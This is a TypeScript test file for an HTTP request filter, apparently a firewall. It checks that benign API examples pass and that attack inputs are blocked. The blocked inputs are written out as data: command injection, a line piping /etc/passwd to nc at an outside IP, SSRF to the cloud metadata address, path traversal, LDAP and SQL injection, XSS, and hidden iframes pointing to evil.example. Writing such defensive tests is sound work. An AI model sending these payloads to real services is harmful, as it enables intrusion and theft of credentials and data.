// What the examples in the OpenAPI definitions of public APIs showed, each with what it lies close to.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { blockedBy } from '../../corpora/report/default-set.ts';

const get = (target: string): string => blockedBy({ method: 'GET', target, headers: [] });
const json = (value: unknown): string =>
  blockedBy({
    method: 'POST',
    target: '/v1/x',
    headers: ['Content-Type', 'application/json'],
    body: JSON.stringify(value),
  });

const xml = (body: string): string =>
  blockedBy({ method: 'POST', target: '/v1/x', headers: ['Content-Type', 'application/xml'], body });

const pass = (ask: (one: never) => string, ...all: readonly unknown[]): void => {
  for (const one of all) assert.equal(ask(one as never), '', JSON.stringify(one));
};
const refused = (ask: (one: never) => string, ...all: readonly unknown[]): void => {
  for (const one of all) assert.notEqual(ask(one as never), '', JSON.stringify(one));
};

test('a namespace amid a path is no file of its ending', () => {
  pass(
    get,
    '/subscriptions/00000000-0000-0000-0000-000000000000/providers/Microsoft.Sql/servers/a',
    '/tenants/04666444-56f0-4d4f-afc5-dbd6b134b084/Microsoft.Resources/deployments',
    '/nuget/Acme.Config/1.0.0',
  );
  refused(get, '/backup/app.sql', '/a/%2e%2e%2fapp.sql', '/logs/app.log', '/a/x%2Fdump.sql/');
});

test('a resource that is called as a command is no command', () => {
  pass(get, '/api/whoami', '/-/whoami', '/v1/netstat', '/tools/ipconfig', '/users/42/id');
  refused(get, '/api/%3Bwhoami', '/api/$(whoami)', '/ping?host=%7Cwhoami');
});

test('a list of one number is no address', () => {
  pass(json, { ids: '[990]' }, { range: '[10.5]' });
  refused(json, { url: 'http://[::ffff:169.254.169.254]/' }, { url: '[::ffff:169.254.169.254]' });
});

test('a folder that a file server shares passes where its name says that it is one', () => {
  pass(
    json,
    { uncPath: '\\\\su1fs.corp.example\\vm_temp' },
    { sourceShare: '\\\\files\\objects\\2024' },
    { a: [{ share_name: '\\\\\\\\files.corp.example\\\\objects' }] },
  );
  refused(
    json,
    { file: '\\\\su1fs.corp.example\\vm_temp' },
    { uncPath: '\\\\files.corp.example\\c$\\windows' },
    { uncPath: '\\\\files.corp.example\\a\\..\\..\\b' },
    { uncPath: '\\\\.\\pipe\\lsass' },
    { uncPath: '\\\\evil.example@8080\\a' },
  );
});

test('disks pass where a name says that one is meant', () => {
  pass(
    json,
    { linux_device: '/dev/disk/by-id/scsi-0HC_Volume_4711' },
    { root_device: '/dev/sda' },
    { filesystem_path: '/dev/disk/by-id/scsi-0Linode_Volume_my-volume' },
  );
  pass(xml, '<Attached><rootDeviceName>/dev/sda</rootDeviceName><device>/dev/sdh</device></Attached>');
  refused(xml, '<Attached><device>/dev/mem</device></Attached>', '<a><page>/dev/sda</page></a>');
  refused(
    json,
    { root_device: '/dev/mem' },
    { filesystem_path: '/etc/shadow' },
    { linux_device: '/dev/tcp/a/1' },
  );
});

test('what an image was made by passes, as an engine of containers tells it', () => {
  const made = '/bin/sh -c #(nop) ADD file:eb15dbd63394e063 in /';
  pass(json, [{ Id: 'a', CreatedBy: made }]);
  refused(json, { CreatedBy: made }, [{ CreatedBy: 'x; cat /etc/passwd | nc 203.0.113.9 80' }]);
});

test('names that a hyphen joins hand nothing on, and a frame of a player is one without its scheme', () => {
  pass(
    json,
    { response: '[payout-confirm-received]' },
    { state: '[order-prompt-shown]' },
    {
      iframe:
        '<iframe src="//player.example/v/1?token=b" width="100%" height="100%" allowfullscreen=""></iframe>',
    },
  );
  pass(json, { content: '<iframe src="//www.example.com/live/1/embed" height="500"></iframe>' });
  refused(
    json,
    { content: '<iframe src="https://evil.example/a" width="0" height="500"></iframe>' },
    { content: '<iframe src="//evil.example/a" width="500" height="1px"></iframe>' },
    { response: '[1].map(confirm)' },
    { response: '"-confirm(1)-"' },
    { iframe: '<iframe src="//evil.example"></iframe>' },
    { iframe: '<iframe src="//evil.example" width="0"></iframe>' },
  );
});

test('conditions whose items are joined by words are no filter of a directory', () => {
  pass(
    json,
    { rule: '((gender=male AND share=0.35) AND any is null) AND (name=*go*)' },
    { q: '(a=1) OR (b=*x*)' },
  );
  refused(json, { rule: '(name=*)(uid=*)' }, { rule: '*)(|(uid=*' }, { rule: '(uid=*)' });
});

test('`if` with a word behind it begins a sentence, not a statement', () => {
  const text = (body: string): string =>
    blockedBy({ method: 'POST', target: '/a', headers: ['Content-Type', 'text/plain'], body });
  pass(
    text,
    'Describes if the kill was committed by the killer with a ground pound.',
    '{\n  // Says if you attach them in the order of their names.\n  "a": 1, // the player\'s\n  "b": 2\n}',
  );
  refused(text, "1 if 1=1 waitfor delay '0:0:5'", "1; if (select user)='sa' waitfor delay '0:0:5'--");
});

test('a resource in a format is not the file that lies forgotten', () => {
  pass(get, '/2010-04-01/Accounts/42/SIP/CredentialLists/42/Credentials.json', '/v1/Secrets.json');
  refused(get, '/config/credentials.json', '/secrets.json');
});

test('numbers of goods, of cards and of telephones are no hexadecimal digits', () => {
  const ids = ['435429666023', '382929003658', '29002243547633', '5554705776466023', '2234290009795467'];
  pass(json, ...ids.map((id) => ({ id })));
  pass(get, ...ids.map((id) => `/v1/x?id=${id}`));
  refused(
    json,
    { id: Buffer.from("1' or '1'='1").toString('hex') },
    { id: Buffer.from("x'$(id)'").toString('hex') },
  );
});
